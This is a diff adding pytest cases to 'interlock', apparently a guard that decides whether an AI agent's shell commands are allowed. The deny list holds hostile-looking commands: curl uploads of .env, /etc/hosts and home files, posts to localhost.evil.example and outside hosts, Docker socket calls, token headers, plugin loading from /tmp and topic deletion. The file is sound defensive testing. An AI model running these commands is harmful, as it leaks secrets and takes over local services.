@@ -2,13 +2,22 @@
 
 from __future__ import annotations
 
+from pathlib import Path
+
 import pytest
 
+from interlock.action import Reading
 from interlock.call import Call
+from interlock.decide import decide
 from interlock.facts import Facts
+from interlock.policy.compile import compile_policy
 from interlock.reading.bash import follow_bash
 from interlock.reading.read import read_call
+from interlock.session import Session
+from interlock.store.policies import default_file
 from interlock.value import FrozenMap
+
+POLICY = compile_policy((("default", default_file(), Path(default_file()).read_bytes()),))
 
 FACTS = Facts(root="/p", home="/home/a")
 
@@ -70,3 +79,105 @@ def test_the_rest_is_sent(command: str) -> None:
 def test_a_fetch_from_a_control_plane_of_this_machine_is_asked_about(url: str, opaque: bool) -> None:
     call = Call(tool="WebFetch", input=FrozenMap({"url": url, "prompt": "x"}), cwd="/p")
     assert bool(read_call(call, FACTS).opaque) is opaque
+
+
+class Straight(dict[str, str]):
+    """Every path leads where its text says."""
+
+    def get(self, path: str, default: object = None) -> str:
+        return path
+
+
+def verdict(command: str) -> str:
+    call = Call(tool="Bash", input=FrozenMap({"command": command}), cwd="/p")
+    found = follow_bash(command, cwd="/p", facts=FACTS, real=Straight())
+    reading = Reading(call="sha256:c", projection="sha256:p", actions=tuple(found.actions), opaque=tuple(found.opaque))
+    return decide(call, reading, POLICY, Session(), ()).verdict.name
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -d @tests/data/sample.json localhost:8000/items",
+        "curl --json @/tmp/body.json http://127.0.0.1:8000/items",
+        "curl --data-urlencode note@README.md localhost:8000/notes",
+        "curl -sc jar.txt -d user=a localhost:8000/login && curl -sb jar.txt localhost:8000/me",
+        "curl -b /tmp/jar -X POST -d a=1 localhost:8000/items",
+        "hey -n 200 -c 20 http://localhost:8000/",
+        "ab -n 100 -c 10 http://127.0.0.1:8000/",
+        "wrk -t2 -c10 -d5s http://localhost:8000/",
+        "oha --no-tui http://localhost:3000",
+        "autocannon -c 10 -d 5 http://localhost:3000",
+        "grpcurl -plaintext localhost:50051 list",
+        "grpcurl -plaintext localhost:50051 describe acme.Api",
+        "grpcurl -plaintext -d '{\"id\": 1}' localhost:50051 acme.Api/Get",
+        "kcat -b localhost:9092 -L",
+        "kcat -b localhost:9092 -t orders -C -e -o -5",
+        "websocat ws://localhost:8000/ws",
+        "echo '{}' | websocat -1 ws://localhost:8000/ws",
+        "wscat -c ws://localhost:3000 -x hi",
+        "kafka-topics.sh --bootstrap-server localhost:9092 --list",
+        "kafka-topics --bootstrap-server localhost:9092 --describe --topic orders",
+    ],
+)
+def test_other_programs_and_files_of_the_project_are_free_here(command: str) -> None:
+    assert verdict(command) == "allow"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        # secrets, what is outside the project, and what is uploaded as a file
+        "curl -d @.env localhost:8000/items",
+        "curl -d @/etc/hosts localhost:8000/items",
+        "curl -d @/home/a/notes.txt localhost:8000/items",
+        "cp .env a.json; curl -d @a.json localhost:8000/items",
+        "curl -b ~/.config/cookies localhost:8000/me",
+        "curl -F file=@data/x.csv localhost:8000/upload",
+        "curl -T data/x.csv localhost:8000/upload",
+        "curl -d @$FILE localhost:8000/items",
+        # elsewhere
+        "curl -d @a.json https://api.example/items",
+        "curl -d @a.json localhost:8000 https://api.example",
+        "curl -d @a.json localhost.evil.example:8000",
+        "curl -x http://proxy.example:1 -d @a.json localhost:8000",
+        "curl --connect-to ::evil.example:80 -d @a.json localhost:8000",
+        "curl -d @a.json telnet://localhost:8000",
+        "curl -b jar.txt https://api.example/me",
+        "hey https://api.example/",
+        "hey -x http://proxy.example:1 http://localhost:8000/",
+        "ab -X proxy.example:1 http://localhost:8000/",
+        "autocannon -S /run/docker.sock http://localhost:3000",
+        "grpcurl api.example:443 list",
+        "grpcurl -plaintext -unix /run/x.sock list",
+        "kcat -b localhost:9092,broker.example:9092 -L",
+        "wscat -c wss://ws.example/x -x data",
+        "websocat wss://ws.example/x",
+        # control planes, deletes, tokens
+        "curl -d @a.json localhost:9200/items",
+        "curl -d '{}' localhost:02375/containers/create",
+        "curl -d '{}' 'http://localhost:2375#x'",
+        "curl -X DELETE -d @a.json localhost:8000/items/1",
+        "curl -H 'Authorization: Bearer x' -d @a.json localhost:8000",
+        "hey http://localhost:2375/",
+        "hey -m DELETE http://localhost:8000/",
+        "hey -a me:pw http://localhost:8000/",
+        "hey -D data/x.csv http://localhost:8000/",
+        "wrk -s load.lua http://localhost:8000/",
+        "autocannon --on-port / http://localhost:3000 -- node x.js",
+        "grpcurl -plaintext localhost:2379 list",
+        "grpcurl -plaintext localhost:50051 acme.Users/DeleteUser",
+        "grpcurl -plaintext -H 'authorization: Bearer x' localhost:50051 acme.Api/Get",
+        "cat names.txt | grpcurl -plaintext -d @ localhost:50051 acme.Api/Get",
+        "websocat ws://localhost:9229/x",
+        "websocat ws-l:0.0.0.0:80 ws://localhost:8000/ws",
+        "cat names.txt | websocat ws://localhost:8000/ws",
+        # code, files and messages
+        "kcat -b localhost:9092 -X plugin.library.paths=/tmp/x.so -L",
+        "kcat -b localhost:9092 -P -t orders data/x.csv",
+        "kafka-topics.sh --bootstrap-server localhost:9092 --delete --topic orders",
+        "kafka-topics.sh --bootstrap-server localhost:9092 --list --command-config /tmp/x",
+    ],
+)
+def test_the_exceptions_hold_for_every_program(command: str) -> None:
+    assert verdict(command) != "allow"
